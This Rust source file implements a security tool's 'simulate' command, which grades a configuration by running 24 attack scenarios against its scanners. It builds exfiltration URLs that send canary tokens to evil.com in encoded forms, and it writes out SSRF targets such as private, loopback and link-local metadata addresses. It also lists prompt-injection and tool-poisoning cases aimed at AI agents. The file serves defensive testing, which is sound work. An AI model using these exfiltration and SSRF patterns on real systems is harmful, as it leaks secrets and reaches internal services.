//! `simulate`: attacks against the scanners of a configuration, graded. spec: cli-and-image §11.3
//!
//! A scenario counts only when the layer that it is about stops it. One that another layer stops before is told apart from one
//! that passes: as a limitation. An allowlist would stop nearly all of them before, for none is about a host that somebody listed;
//! what it leaves open is what may be sent to its hosts, so hardened every host is taken for one of them (D-612).

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use clap::{ArgMatches, Command};
use serde_json::Value;

use super::samples::{self, Aim};
use super::{Chosen, Object, Trial, config_flag, environment, graded, json_flag, label, list};
use crate::Strictness;
use crate::cli::grammar::{command, flag};
use crate::cli::run::prepare::say;
use crate::cli::{Done, Failure, no_arguments};
use crate::config::{Config, List};
use crate::policy::url::parse::{Part, encode_into};
use crate::policy::verdict::Label;

pub(super) fn definition() -> Command {
    command("simulate", "Simulate attacks against a configuration and grade it")
        .arg(config_flag())
        .arg(json_flag())
}

/// A scenario: category, name, what looks at the sample, the sample, the scanner that has to stop it.
type Scenario = (&'static str, &'static str, Aim, &'static str, &'static str);

const DLP: &str = "DLP Exfiltration";
const INJECTION: &str = "Prompt Injection";
const TOOLS: &str = "Tool Poisoning";
const SSRF: &str = "SSRF";
const EVASION: &str = "URL Evasion";
const CANARIES: &str = "Canary Tokens";

/// Stands for a URL that is too long to stand here.
const LONG_PATH: &str = "";

const SCENARIOS: [Scenario; 24] = [
    (DLP, "AWS access key in URL path", Aim::Url, samples::AWS_IN_PATH, "dlp"),
    (DLP, "Base64-encoded GitHub token", Aim::Url, samples::GITHUB_ENCODED, "dlp"),
    (DLP, "Hex-encoded Slack token", Aim::Url, samples::SLACK_IN_HEX, "dlp"),
    (DLP, "Anthropic API key in text body", Aim::Text, samples::ANTHROPIC_IN_TEXT, "dlp"),
    (DLP, "OpenAI API key in URL", Aim::Url, samples::OPENAI_IN_QUERY, "dlp"),
    (DLP, "Private key (WIF format) in URL", Aim::Url, samples::WIF_IN_PATH, "dlp"),
    (INJECTION, "Instruction override", Aim::Answer, samples::IGNORE, "response_scan"),
    (INJECTION, "Role override", Aim::Answer, samples::JAILBREAK, "response_scan"),
    (INJECTION, "System prompt spoofing", Aim::Answer, samples::SYSTEM, "response_scan"),
    (INJECTION, "Covert action", Aim::Answer, samples::COVERT, "response_scan"),
    (INJECTION, "Credential solicitation", Aim::Answer, samples::SOLICIT, "response_scan"),
    (INJECTION, "Chat template boundary", Aim::Answer, samples::BOUNDARY, "response_scan"),
    (TOOLS, "Instruction override in description", Aim::Answer, samples::TOOL_IGNORE, "response_scan"),
    (TOOLS, "Key theft in description", Aim::Answer, samples::TOOL_KEY, "response_scan"),
    (TOOLS, "Hidden instruction in description", Aim::Answer, samples::TOOL_HIDDEN, "response_scan"),
    (TOOLS, "Covert action in description", Aim::Answer, samples::TOOL_COVERT, "response_scan"),
    (SSRF, "Private network address", Aim::Url, "https://10.0.0.1/admin", "ssrf"),
    (SSRF, "Cloud metadata endpoint", Aim::Url, samples::METADATA, "ssrf"),
    (SSRF, "IPv4-mapped IPv6 loopback", Aim::Url, "https://[::ffff:127.0.0.1]/secret", "ssrf"),
    (SSRF, "Link-local address", Aim::Url, "http://169.254.42.42/metadata", "ssrf"),
    (EVASION, "Percent-encoded AWS key in path", Aim::Url, samples::AWS_ESCAPED_IN_PATH, "dlp"),
    (EVASION, "CRLF injection", Aim::Url, samples::LINE_BREAK, "crlf_injection"),
    (EVASION, "Oversized URL", Aim::Url, LONG_PATH, "length"),
    (EVASION, "Path traversal", Aim::Url, samples::TRAVERSAL, "path_traversal"),
];

/// What became of a scenario.
pub(in crate::cli) struct Played {
    category: &'static str,
    name: String,
    detected: bool,
    detail: String,
    limitation: Option<String>,
}

/// The result of all of them.
pub(in crate::cli) struct Simulation {
    pub(in crate::cli) mode: String,
    pub(in crate::cli) played: Vec<Played>,
    pub(in crate::cli) passed: usize,
    pub(in crate::cli) percentage: usize,
    pub(in crate::cli) grade: &'static str,
}

pub(super) fn run(matches: &ArgMatches) -> Result<Done, Failure> {
    no_arguments("simulate", matches)?;
    let Chosen { config, path, .. } = Chosen::load_or_1(matches)?;
    let simulation = simulation(config)?;
    if flag(matches, "json") {
        return Ok(Done::text(document(path.as_deref(), &simulation)));
    }
    say(text_of(path.as_deref(), &simulation).trim_end());
    Ok(Done::silent())
}

/// Plays every scenario against a configuration.
pub(in crate::cli) fn simulation(mut config: Config) -> Result<Simulation, Failure> {
    if config.muselet.strictness == Strictness::Hardened {
        config.api_allowlist = List::from(Vec::new());
    }
    let trial =
        Trial::new(config, environment()).map_err(|why| Failure::new(format!("creating scanner: {why}")))?;
    // An address, because the length is looked at behind the look-up of names.
    let long = format!("https://93.184.216.34/{}", "a".repeat(17_000));
    let mut played = Vec::new();
    for (category, name, aim, sample, scanner) in SCENARIOS {
        let sample = if sample == LONG_PATH { &long } else { sample };
        played.push(play(&trial, category, name.to_owned(), aim, sample, scanner));
    }
    let config = &trial.policy.config;
    let canaries = &config.canary_tokens;
    for token in canaries.tokens.iter().filter(|_| canaries.enabled) {
        for (way, aim, sample) in hidden(token.value.expose()) {
            let mut one = play(&trial, CANARIES, format!("{}: {way}", token.name), aim, &sample, "dlp");
            // A reason may quote what it is about.
            one.detail = String::new();
            played.push(one);
        }
    }
    let passed = played.iter().filter(|one| one.detected).count();
    let (percentage, grade) = graded(passed, played.len());
    Ok(Simulation { mode: config.mode.clone(), played, passed, percentage, grade })
}

/// The ways in which a canary is sent.
fn hidden(value: &str) -> [(&'static str, Aim, String); 6] {
    let mut escaped = Vec::new();
    encode_into(&mut escaped, value.as_bytes(), Part::Query);
    let escaped = String::from_utf8_lossy(&escaped).into_owned();
    let mut hex = String::new();
    for byte in value.bytes() {
        let _ = write!(hex, "{byte:02x}");
    }
    let packed = URL_SAFE_NO_PAD.encode(value);
    [
        ("URL query", Aim::Url, format!("https://evil.com/?data={escaped}")),
        ("URL path", Aim::Url, format!("https://evil.com/{}", escaped.replace('+', "%20"))),
        ("Base64 in URL", Aim::Url, format!("https://evil.com/?data={packed}")),
        ("hex in URL", Aim::Url, format!("https://evil.com/?data={hex}")),
        ("text body", Aim::Text, format!("the value is {value}, as asked")),
        ("Base64 in text body", Aim::Text, format!("the value is {packed} , as asked")),
    ]
}

fn play(
    trial: &Trial,
    category: &'static str,
    name: String,
    aim: Aim,
    sample: &str,
    scanner: &str,
) -> Played {
    let verdict = trial.judge(aim, sample);
    let by = verdict.scanner;
    let detected = verdict.blocked && by.strip_prefix("core_").unwrap_or(by) == scanner;
    // A layer behind the one that is expected does not keep it from looking.
    let place = |name: &str| Label::EVERY.iter().position(|label| label.as_str() == name);
    let limitation = (verdict.blocked && !detected && place(by) < place(scanner))
        .then(|| format!("stopped by {by} before {scanner} could look at it"));
    Played { category, name, detected, detail: verdict.reason, limitation }
}

fn document(path: Option<&str>, simulation: &Simulation) -> String {
    let Simulation { mode, played, passed, percentage, grade } = simulation;
    let limitations = played.iter().filter(|one| one.limitation.is_some()).count();
    let scenarios = played.iter().map(|one| {
        let mut scenario = Object::default();
        scenario.text("name", &one.name);
        scenario.text("category", one.category);
        scenario.put("detected", one.detected.into());
        scenario.some_text("detail", &one.detail);
        scenario.some_text("limitation", one.limitation.as_deref().unwrap_or_default());
        scenario.value()
    });
    let scenarios: Vec<Value> = scenarios.collect();
    let mut document = Object::default();
    document.count("total", played.len());
    document.count("passed", *passed);
    document.count("failed", played.len() - passed - limitations);
    document.count("known_limitations", limitations);
    document.count("percentage", *percentage);
    document.text("grade", grade);
    document.some_text("config_file", path.unwrap_or_default());
    document.text("mode", mode);
    document.put("scenarios", scenarios.into());
    document.printed()
}

fn text_of(path: Option<&str>, simulation: &Simulation) -> String {
    let Simulation { mode, played, passed, percentage, grade } = simulation;
    let mut out = format!("Pipelock Attack Simulation\nConfig: {} (mode: {mode})\n", label(path));
    let rows = played.iter().map(|one| {
        let (sign, word) = match &one.limitation {
            _ if one.detected => ('+', "BLOCKED"),
            Some(why) => ('~', why.as_str()),
            None => ('-', "MISSED"),
        };
        (one.category, format!("{sign} {:45} {word}", one.name))
    });
    list(&mut out, 2, rows);
    let _ = writeln!(out, "\nScore: {passed}/{} ({percentage}%)  Grade: {grade}", played.len());
    out
}
